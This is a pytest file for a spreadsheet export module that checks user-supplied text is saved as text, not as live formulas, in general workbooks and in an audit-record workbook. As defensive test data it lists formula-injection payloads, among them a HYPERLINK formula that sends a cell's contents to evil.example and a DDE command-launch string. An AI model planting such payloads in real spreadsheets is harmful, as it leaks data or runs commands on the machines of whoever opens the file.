"""Every workbook the tool writes keeps user text as text: no formulas, no error values."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from tracker.documents.auditrecord import record_xlsx
from tracker.documents.workbook import MAX_CELL_CHARS, row_cells, text_cell
from tracker.domain.audits import SampledRecord, SelfAudit
from tracker.domain.vendors import Agency

HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"點我")',
    "=1+1",
    "+886-2-1234",
    "-1",
    "@SUM(A1:A9)",
    "#N/A",
    "#DIV/0!",
    "\t=tab first",
    "=cmd|' /C calc'!A0",
]


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formulas_in(data: bytes) -> list[str]:
    """Every <f> element of every sheet of a saved workbook (a formula the file would run)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_that_looks_like_a_formula_or_an_error_is_stored_as_that_text(value):
    book = Workbook()
    book.active.append(row_cells(book.active, [value]))
    data = saved(book)
    cell = load_workbook(io.BytesIO(data)).active["A1"]
    assert (cell.value, cell.data_type) == (value, "s")
    assert formulas_in(data) == []


def test_text_a_spreadsheet_would_take_for_a_formula_gets_the_quote_prefix():
    sheet = Workbook().active
    assert text_cell(sheet, "=1+1").quotePrefix and text_cell(sheet, "@x").quotePrefix
    assert not text_cell(sheet, "個案訪視").quotePrefix


def test_numbers_dates_and_blanks_keep_their_types():
    book = Workbook()
    sheet = book.active
    sheet.append(
        row_cells(sheet, [12345, 0.5, date(2025, 3, 2), datetime(2025, 3, 2, 9), None, "x"])
    )
    row = load_workbook(io.BytesIO(saved(book))).active[1]
    assert [c.value for c in row] == [
        12345,
        0.5,
        datetime(2025, 3, 2),
        datetime(2025, 3, 2, 9),
        None,
        "x",
    ]
    assert [c.data_type for c in row][:2] == ["n", "n"]


def test_control_characters_become_a_replacement_mark_instead_of_failing_the_export():
    book = Workbook()
    book.active.append(row_cells(book.active, ["王\x00小\x07明\x1b", "第一行\n第二行\t欄"]))
    first, second = load_workbook(io.BytesIO(saved(book))).active[1]
    assert first.value == "王\ufffd小\ufffd明\ufffd" and second.value == "第一行\n第二行\t欄"


def test_text_over_excels_cell_limit_is_cut_visibly():
    cell = text_cell(Workbook().active, "字" * (MAX_CELL_CHARS + 10))
    assert len(cell.value) == MAX_CELL_CHARS and cell.value.endswith("…")


# --- the audit record ----------------------------------------------------------------------------


def hostile_audit() -> tuple[SelfAudit, Agency, list[SampledRecord]]:
    audit = SelfAudit(
        id="au-1",
        agency_id="ag",
        period_start=date(2025, 1, 1),
        period_end=date(2025, 6, 30),
        population=12,
        sample_size=10,
        seed=7,
        opened_by="=opened",
        opened_at=datetime(2025, 7, 1, 9),
        violations=1,
        notified_units="=政風室",
        corrective_action="+改善",
        recommendation="@建議",
    )
    records = [
        SampledRecord(
            id=f"r{i}",
            audit_id=audit.id,
            agency_id="ag",
            line=i + 2,
            queried_at=datetime(2025, 3, 2, 14, 5, 6),
            account=text,
            query_type="入出境資料查詢",
            subject_id="A123456789",
            purpose=text,
            ip="-",
            finding="not_legitimate",
            note=text,
            case_ref="#N/A",
            reviewed_by="=reviewer",
        )
        for i, text in enumerate(HOSTILE)
    ]
    return audit, Agency("ag", "=臺北市政府社會局"), records


def test_the_audit_record_workbook_has_no_formula_whatever_was_imported():
    data = record_xlsx(*hostile_audit())
    assert formulas_in(data) == []
    book = load_workbook(io.BytesIO(data))
    detail = list(book["抽查明細"].iter_rows(min_row=2, values_only=True))
    columns = [cell.value for cell in book["抽查明細"][1]]
    purposes = [row[columns.index("查詢事由")] for row in detail]
    assert purposes == HOSTILE
    assert [row[columns.index("帳號")] for row in detail] == HOSTILE
    assert {row[columns.index("個案編號")] for row in detail} == {"#N/A"}
    assert all(c.data_type == "s" for row in book["抽查明細"].iter_rows(min_row=2) for c in row[2:])


def test_the_audit_record_summary_keeps_numbers_as_numbers_and_text_as_text():
    book = load_workbook(io.BytesIO(record_xlsx(*hostile_audit())))
    summary = {
        row[0].value: row[1] for row in book["抽查紀錄"].iter_rows(min_row=2) if row[0].value
    }
    assert (summary["母體筆數"].value, summary["母體筆數"].data_type) == (12, "n")
    assert (summary["機關"].value, summary["機關"].data_type) == ("=臺北市政府社會局", "s")
    assert summary["開啟者"].value == "=opened" and summary["通知單位"].value == "=政風室"
